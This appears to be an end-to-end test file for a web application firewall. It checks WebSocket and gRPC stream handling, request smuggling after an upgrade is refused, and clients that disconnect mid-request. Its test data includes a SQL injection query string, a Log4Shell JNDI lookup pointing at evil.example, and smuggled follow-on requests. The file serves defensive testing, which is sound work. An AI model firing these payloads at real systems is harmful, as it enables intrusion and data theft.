"""What has no end is not held, and a client that leaves takes nothing with it."""

from e2e.attacks import ATTACKS
from e2e.case import Case
from harness import client
from harness.upstream import NO_UPGRADE

UPGRADE = [
    ("Connection", "Upgrade"),
    ("Upgrade", "websocket"),
    ("Sec-WebSocket-Version", "13"),
    ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
]


class Streams(Case):
    def test_websocket_is_not_held(self):
        with client.connect(self.port(), timeout_s=5) as link:
            link.sendall(client.request("GET", "/live", UPGRADE)[0])
            self.assertEqual(client.read_response(link).status, 101)
            for frame in (b"\x81\x05hello", b"\x81\x06' OR 1", b"\x82\x04\x00\xff\x80\x7f"):
                link.sendall(frame)
                back = b""
                while len(back) < len(frame):
                    back += link.recv(4096)
                self.assertEqual(back, frame)

    def test_websocket_handshake_is_inspected(self):
        target = "/live?token=%27%20UNION%20SELECT%20name%2C%20pass%20FROM%20users--"
        self.assert_refused(self.send("GET", target, UPGRADE), "sqli")
        self.assertEqual(self.upstream.take(), [])

    def test_nothing_follows_a_handshake_that_the_application_does_not_take(self):
        """It would be a request of its own there, or the body of this one, that nobody has inspected."""
        attack = client.request("GET", "/?q=%24%7Bjndi:ldap://evil.example/a%7D")[0]
        body = b'{"note": "' + ATTACKS["sqli"].encode() + b'"}'
        for name, method, headers, rest in (
            ("a second request", "GET", [], attack),
            ("one behind a length of 0", "POST", [("Content-Length", "0")], attack),
            ("a body in chunks", "POST", [("Transfer-Encoding", "chunked")], b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)),
            ("a body with a length", "POST", [("Content-Length", str(len(body)))], body),
        ):
            with self.subTest(name):
                head = client.request(method, NO_UPGRADE, [*UPGRADE, *headers])[0]
                self.upstream.take()
                client.abandon(self.port(), [head + rest], wait_s=0.3)
                (seen,) = self.upstream.take()
                self.assertEqual((seen.target, seen.body_bytes), (NO_UPGRADE, 0))

    def test_grpc_is_not_held(self):
        message = b"\x00\x00\x00\x00\x05\x0a\x03abc"
        with self.stream([("content-type", "application/grpc"), ("te", "trailers")], path="/shop.Seats/Watch") as stream:
            for count in (1, 2, 3):
                stream.data(message)
                self.assertTrue(self.upstream.wait_for_body(count * len(message)), f"message {count} is held")
            stream.data(b"", end=True)
            self.assertEqual(stream.answer().status, 200)

    def test_grpc_gets_its_own_kind_of_refusal(self):
        headers = [("content-type", "application/grpc"), ("te", "trailers"), ("x-note", ATTACKS["log4shell"])]
        with self.stream(headers, path="/shop.Seats/Watch") as stream:
            response = stream.answer()
        self.assertEqual(response.value("grpc-status"), "7")
        self.assertRegex(self.envoy.access(response)["details"], r"^backstop\{log4shell:")

    def test_client_that_leaves_in_the_middle_of_a_body(self):
        for reset in (False, True):
            for body in (b'{"note": "plain', b'{"note": "' + ATTACKS["sqli"].encode()):
                head = [("Content-Type", "application/json"), ("Content-Length", "1000")]
                pieces = client.request("POST", "/n", head)
                client.abandon(self.port(), [*pieces, body], reset=reset)
        client.abandon(self.port(), [b"POST /n HTTP/1.1\r\nHost: shop.exa"])
        self.assert_vm_alive()

    def test_http2_client_that_leaves_in_the_middle_of_a_body(self):
        with self.stream([("content-type", "application/json")]) as stream:
            stream.data(b'{"note": "plain')
        self.assert_vm_alive()
